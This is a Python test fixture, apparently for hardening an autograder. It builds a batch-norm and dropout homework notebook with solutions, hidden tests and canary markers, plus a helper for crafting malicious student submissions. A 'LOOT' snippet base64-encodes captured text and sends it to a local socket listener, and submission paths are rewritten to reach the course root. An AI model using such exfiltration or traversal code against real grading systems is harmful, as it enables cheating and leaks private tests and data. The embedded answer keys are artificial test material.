"""A course of one notebook, and a student's way of handing it in."""

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from autograder.grading import gradebook

ASSIGNMENT, NOTEBOOK, POINTS = "ps1", "hw", 8
# Whatever may not reach a student holds one of these, so that a leak is found by searching.
HIDDEN, SOLUTION, OTHER = "CANARY-HIDDEN-7f31", "CANARY-SOLUTION-a9c2", "CANARY-ZOE-51de"
BOOK, ENVIRONMENT = "CANARY-DB-e044", "CANARY-ENV-3b7a"
CANARIES = (HIDDEN, SOLUTION, OTHER, BOOK, ENVIRONMENT)
FORBIDDEN = ("batch_norm", "layer_norm", "group_norm", "dropout")

SETUP = """import torch, numpy as np
import torch.nn as nn
import torch.nn.functional as F
torch.set_num_threads(1)
torch.manual_seed(0)"""
BN_SOL = f'''def manual_batch_norm(x, gamma, beta, running_mean, running_var, training=True, momentum=0.1, eps=1e-5):
    """Normalise x (N, C); in training update running_mean/running_var IN PLACE. Do not call F.batch_norm."""
    ### BEGIN SOLUTION
    # {SOLUTION}
    if training:
        mean = x.mean(0)
        var = x.var(0, unbiased=False)
        with torch.no_grad():
            n = x.shape[0]
            running_mean.mul_(1 - momentum).add_(momentum * mean)
            running_var.mul_(1 - momentum).add_(momentum * var * n / (n - 1))
    else:
        mean, var = running_mean, running_var
    return (x - mean) / torch.sqrt(var + eps) * gamma + beta
    ### END SOLUTION
'''
BN_VIS = """x = torch.arange(12.).reshape(4, 3)
rm, rv = torch.zeros(3), torch.ones(3)
y = manual_batch_norm(x, torch.ones(3), torch.zeros(3), rm, rv)
assert y.shape == (4, 3), "wrong shape"
assert torch.allclose(y.mean(0), torch.zeros(3), atol=1e-5), "mean over the batch must be 0"
"""
BN_HID = f"""### BEGIN HIDDEN TESTS
# {HIDDEN}
torch.manual_seed(1234)
for (n, c) in [(5, 3), (16, 8), (2, 1)]:
    x = torch.randn(n, c, dtype=torch.float64) * 3 + 1
    g, b = torch.randn(c, dtype=torch.float64), torch.randn(c, dtype=torch.float64)
    rm1, rv1 = torch.randn(c, dtype=torch.float64), torch.rand(c, dtype=torch.float64)
    rm2, rv2 = rm1.clone(), rv1.clone()
    for training in (True, False):
        xs = x.clone().requires_grad_(True); xr = x.clone().requires_grad_(True)
        out = manual_batch_norm(xs, g, b, rm1, rv1, training=training)
        ref = F.batch_norm(xr, rm2, rv2, g, b, training=training, momentum=0.1, eps=1e-5)
        assert torch.allclose(out, ref, atol=1e-6), "output differs"
        assert torch.allclose(rm1, rm2, atol=1e-6) and torch.allclose(rv1, rv2, atol=1e-6), "running statistics differ"
        w = torch.randn_like(ref)
        out.backward(w); ref.backward(w)
        assert torch.allclose(xs.grad, xr.grad, atol=1e-6), "gradient differs"
### END HIDDEN TESTS
"""
DR_SOL = '''class InvertedDropout(nn.Module):
    """Inverted dropout with drop probability p; keep an element where torch.rand_like(x) >= p."""
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p
        self.mask = None
    def forward(self, x):
        ### BEGIN SOLUTION
        if not self.training or self.p == 0:
            return x
        self.mask = (torch.rand_like(x) >= self.p).to(x.dtype) / (1 - self.p)
        return x * self.mask
        ### END SOLUTION
'''
DR_VIS = """d = InvertedDropout(0.5)
d.eval()
assert torch.equal(d(torch.ones(4)), torch.ones(4)), "eval must be the identity"
"""
DR_HID = f"""### BEGIN HIDDEN TESTS
# {HIDDEN}
for p in (0.2, 0.5, 0.8):
    d = InvertedDropout(p)
    d.train()
    x = torch.randn(64, 32)
    torch.manual_seed(99); out = d(x)
    torch.manual_seed(99); keep = (torch.rand_like(x) >= p).float()
    assert torch.allclose(out, x * keep / (1 - p)), "wrong mask or scale"
    assert torch.allclose(d.mask, keep / (1 - p)), "mask is not stored"
    d.eval()
    assert torch.equal(d(x), x), "eval must be the identity"
assert torch.equal(InvertedDropout(0.0)(x), x)
### END HIDDEN TESTS
"""
BN_RIGHT = """def manual_batch_norm(x, gamma, beta, running_mean, running_var, training=True, momentum=0.1, eps=1e-5):
    if training:
        mean = x.mean(dim=0)
        var = ((x - mean) ** 2).mean(dim=0)
        n = x.shape[0]
        running_mean.copy_((1 - momentum) * running_mean + momentum * mean.detach())
        running_var.copy_((1 - momentum) * running_var + momentum * var.detach() * n / (n - 1))
    else:
        mean, var = running_mean, running_var
    return gamma * (x - mean) / (var + eps).sqrt() + beta
"""
BN_WRONG = """def manual_batch_norm(x, gamma, beta, running_mean, running_var, training=True, momentum=0.1, eps=1e-5):
    return x * 0 + 7
"""
DR_RIGHT = """class InvertedDropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p
        self.mask = None
    def forward(self, x):
        if self.training and self.p > 0:
            self.mask = (torch.rand_like(x) >= self.p).to(x.dtype) / (1 - self.p)
            return x * self.mask
        return x
"""
DR_WRONG = """class InvertedDropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p
        self.mask = None
    def forward(self, x):
        return x + 1
"""

# Loot leaves by the notebook's own output, and by a listener on this machine.
PORT = 45999
LOOT = """
def __loot(kind, text):
    import base64, socket
    b = base64.b64encode(str(text).encode()[:200000]).decode()
    print("LOOT:" + kind + ":" + b)
    try:
        s = socket.create_connection(("127.0.0.1", PORT), 1); s.sendall(("NET:" + kind + ":" + b + "\\n").encode()); s.close()
    except OSError as e:
        print("NONET", e)
""".replace("PORT", str(PORT))
# A course with this file in it may be damaged by a submission.
THROW_AWAY = "throw-away"


def write(root: Path) -> Path:
    """Write the course: `source/`, nothing else; returns its root."""
    path = root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(source(), path)
    (root / THROW_AWAY).touch()
    return root


def source() -> nbformat.NotebookNode:
    metadata = {
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
        "language_info": {"name": "python"},
        "autograder": {"forbid": list(FORBIDDEN)},
    }
    cells = [
        new_markdown_cell("# Homework 1"),
        new_code_cell(SETUP, metadata=_marks("setup", locked=True)),
        new_code_cell(BN_SOL, metadata=_marks("bn", solution=True)),
        new_code_cell(BN_VIS, metadata=_marks("bn_visible", grade=True, locked=True, points=1)),
        new_code_cell(BN_HID, metadata=_marks("bn_hidden", grade=True, locked=True, points=3)),
        new_code_cell(DR_SOL, metadata=_marks("drop", solution=True)),
        new_code_cell(DR_VIS, metadata=_marks("drop_visible", grade=True, locked=True, points=1)),
        new_code_cell(DR_HID, metadata=_marks("drop_hidden", grade=True, locked=True, points=3)),
        new_markdown_cell(
            "Explain why eval mode is the identity.",
            metadata=_marks("essay", grade=True, solution=True, points=2),
        ),
    ]
    for number, cell in enumerate(cells):
        cell["id"] = f"cell{number:02d}"
    return new_notebook(cells=cells, metadata=metadata)


def _marks(name: str, points: int | None = None, **roles: bool) -> dict[str, Any]:
    marks: dict[str, Any] = {"grade_id": name, "schema_version": 3, "task": False}
    for role in ("grade", "solution", "locked"):
        marks[role] = roles.get(role, False)
    return {"nbgrader": marks if points is None else {**marks, "points": points}}


def released(root: Path) -> nbformat.NotebookNode:
    """The notebook as students get it."""
    path = root / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    facts = gradebook.released(path, gradebook.settings(root, ASSIGNMENT))
    notebook = copy.deepcopy(facts.stubbed)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        cell.source = facts.shown.get(name, cell.source)
    return notebook


class Handed:
    """One student's folder; wrong everywhere until told otherwise."""

    def __init__(self, root: Path, student: str = "mallory") -> None:
        self.root, self.student = root, student
        self.folder = root / "submitted" / student / ASSIGNMENT
        self.folder.mkdir(parents=True, exist_ok=True)
        self.nb = released(root)
        self.timestamp: str | None = "2025-01-01 12:00:00 UTC"
        self.written = False
        self.wrong().set("essay", "Because no unit may be dropped at test time.")

    def index(self, name: str) -> int:
        return next(
            n
            for n, c in enumerate(self.nb.cells)
            if c.metadata.get("nbgrader", {}).get("grade_id") == name
        )

    def cell(self, name: str) -> Any:
        return self.nb.cells[self.index(name)]

    def set(self, name: str, text: str) -> "Handed":
        self.cell(name).source = text
        return self

    def append(self, name: str, text: str) -> "Handed":
        self.cell(name).source += f"\n{text}"
        return self

    def right(self) -> "Handed":
        return self.set("bn", BN_RIGHT).set("drop", DR_RIGHT)

    def wrong(self) -> "Handed":
        return self.set("bn", BN_WRONG).set("drop", DR_WRONG)

    def insert(self, text: str, before: str = "bn", after: str = "") -> Any:
        cell = new_code_cell(text)
        place = self.index(after) + 1 if after else self.index(before)
        self.nb.cells.insert(place, cell)
        return cell

    def path(self, name: str = f"{NOTEBOOK}.ipynb") -> Path:
        return self.folder / name

    def file(self, name: str, data: str | bytes) -> None:
        path = self.path(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode())

    def text(self) -> str:
        return json.dumps(self.nb, indent=1)

    def raw(self, data: str | bytes, name: str = f"{NOTEBOOK}.ipynb") -> None:
        self.file(name, data)
        self.written = True

    def write(self) -> "Handed":
        if not self.written:
            for cell in self.nb.cells:  # wherever the code runs, it finds what it wants to damage
                cell.source = cell.source.replace("../../..", str(self.root))
            self.raw(self.text())
            self.written = False  # it may be edited and handed in again
        if self.timestamp is not None:
            self.file("timestamp.txt", self.timestamp)
        return self


@dataclass(frozen=True)
class Odd:
    """One odd submission: what a fair grader gives it, and how it is made."""

    name: str
    family: str
    fair: tuple[int, int] | None
    edit: Callable[[Handed], None]

    def hand_in(self, root: Path, student: str = "mallory") -> Handed:
        handed = Handed(root, student)
        self.edit(handed)
        return handed.write()


KNOWN: dict[str, Odd] = {}


def hands_in(fair: tuple[int, int] | None) -> Callable[[Callable[[Handed], None]], Any]:
    """Register a function as an odd submission."""

    def register(edit: Callable[[Handed], None]) -> Callable[[Handed], None]:
        family = edit.__module__.rpartition(".")[2]
        assert edit.__name__ not in KNOWN, edit.__name__
        KNOWN[edit.__name__] = Odd(edit.__name__, family, fair, edit)
        return edit

    return register
